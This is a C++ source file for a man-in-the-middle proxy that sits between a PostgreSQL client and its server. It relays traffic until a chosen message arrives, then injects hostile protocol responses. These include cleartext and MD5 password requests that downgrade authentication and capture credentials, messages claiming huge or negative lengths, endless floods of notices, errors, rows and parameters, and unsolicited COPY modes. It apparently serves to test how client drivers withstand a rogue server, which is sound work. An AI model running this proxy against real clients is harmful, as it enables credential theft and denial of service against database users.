// PostgreSQL's protocol 3.0, as far as a man in the middle needs it.
// Source: PostgreSQL manual, "Frontend/Backend Protocol", "Message Formats".
// SPDX-License-Identifier: MIT
#include <poll.h>

#include <cstdint>
#include <map>

#include "plan.hpp"

namespace rogue {
namespace {

std::uint32_t number_of(std::string_view four) {
  std::uint32_t out = 0;
  for (const char c : four) out = out << 8 | static_cast<unsigned char>(c);
  return out;
}

std::string four(std::uint32_t n) {
  std::string out;
  for (int shift = 24; shift >= 0; shift -= 8) out += static_cast<char>(n >> shift & 0xff);
  return out;
}

std::string message(char type, std::string_view body) { return type + four(static_cast<std::uint32_t>(body.size() + 4)).append(body); }

std::string text(std::string_view s) { return std::string(s) + '\0'; }

std::string notice(char type) {
  return message(type, "S" + text(type == 'E' ? "ERROR" : "NOTICE") + "C" + text("XX000") + "M" + text("so it goes on, and on") + '\0');
}

std::string one_column() {
  return message('T', std::string("\0\1", 2) + text("c") + std::string("\0\0\0\0\0\0\0\0\0\x19\xff\xff\xff\xff\xff\xff\0\0", 18));
}

std::string one_row() { return message('D', std::string("\0\1\0\0\0\1x", 7)); }

const std::map<char, std::string> kKinds{{'p', "password"}, {'Q', "query"}, {'P', "parse"}, {'d', "copy"}};

class Session {
 public:
  Session(const Plan& plan, Channel& client) : plan_(plan), client_(client), server_(Channel::connect_to(plan.upstream_address, plan.upstream_port)) {}

  void run() {
    start_up();
    for (;;) {
      pollfd both[2] = {{client_.fd(), POLLIN, 0}, {server_.fd(), POLLIN, 0}};
      if (!client_.pending() && ::poll(both, 2, -1) < 0) continue;
      if (client_.pending() || both[0].revents != 0) from_client();
      else from_server();
    }
  }

 private:
  struct Message {
    char type;
    std::string body;
  };
  static Message read_message(Channel& from) {
    const std::string head = from.read(5);
    return {head[0], from.read(number_of(std::string_view(head).substr(1)) - 4)};
  }

  bool due(const std::string& kind) { return plan_.attack != "nothing" && kind == plan_.on && ++seen_ == plan_.nth; }

  void start_up() {
    constexpr std::uint32_t kTls = 80877103, kGss = 80877104;
    for (;;) {
      const std::string length = client_.read(4);
      const std::string body = client_.read(number_of(length) - 4);
      const auto code = number_of(std::string_view(body).substr(0, 4));
      if (code == kTls && plan_.tls) {
        client_.write("S");
        client_.accept_tls(*plan_.tls);
      } else if (code == kTls || code == kGss) {
        client_.write("N");
      } else {
        if (due("startup")) attack();
        server_.write(length + body);
        return;
      }
    }
  }

  void from_client() {
    const Message m = read_message(client_);
    const auto known = kKinds.find(m.type);
    const bool meant = plan_.statement.empty() || m.body.find(plan_.statement) != std::string::npos;
    if (known != kKinds.end() && meant && due(known->second)) {
      attack();
      return;
    }
    server_.write(message(m.type, m.body));
  }

  void from_server() {
    const Message m = read_message(server_);
    if ((m.type == 'D' || m.type == 'd') && due("row")) attack();
    client_.write(message(m.type, m.body));
  }

  /// Returns where the session goes on as if nothing had been.
  void attack() {
    const std::string& what = plan_.attack;
    say("attack " + what + " on " + plan_.on);
    const std::string binary_copy("\0\0\1\0\0", 5);
    if (what == "copy-in") client_.write(message('G', binary_copy));
    if (what == "copy-both") client_.write(message('W', binary_copy));
    if (what == "copy-out") {
      client_.write(message('H', binary_copy));
      flood(client_, message('d', std::string(1000, 'x')));
    }
    if (what == "clear") client_.write(message('R', four(3)));
    if (what == "md5") client_.write(message('R', four(5) + "salt"));
    if (what == "huge") announce('D', 0x7fffffff);
    if (what == "negative") announce('D', 0xffffffff);
    if (what == "error") announce('E', 0x7ffffff0);
    if (what == "notices") flood(client_, notice('N'));
    if (what == "errors") flood(client_, notice('E'));
    if (what == "notify") flood(client_, message('A', four(1) + text("channel") + text("payload")));
    if (what == "parameters") parameters();
    if (what == "drip") drip(client_, message('N', std::string(1U << 20, 'x')));
    if (what == "rows") {
      client_.write(one_column());
      flood(client_, one_row());
    }
    if (what == "few-columns") return client_.write(one_column() + one_row() + message('C', text("SELECT 1")) + message('Z', "I"));
    if (what == "no-row") return client_.write(one_column() + message('C', text("SELECT 0")) + message('Z', "I"));
    listen_only(client_);
  }

  /// A message of that length, by its own word, and the bytes of it for as long as somebody takes them.
  [[noreturn]] void announce(char type, std::uint32_t length) {
    client_.write(type + four(length));
    flood(client_, std::string(65536, '\0'));
  }

  [[noreturn]] void parameters() {
    std::string many;
    for (std::uint64_t i = 0;; many.clear()) {
      while (many.size() < 65536) many += message('S', text("parameter_" + std::to_string(i++)) + text(std::string(200, 'v')));
      client_.write(many);
    }
  }

  const Plan& plan_;
  Channel& client_;
  Channel server_;
  int seen_ = 0;
};

}  // namespace

void serve_postgres(const Plan& plan, Channel& client) { Session(plan, client).run(); }

}  // namespace rogue
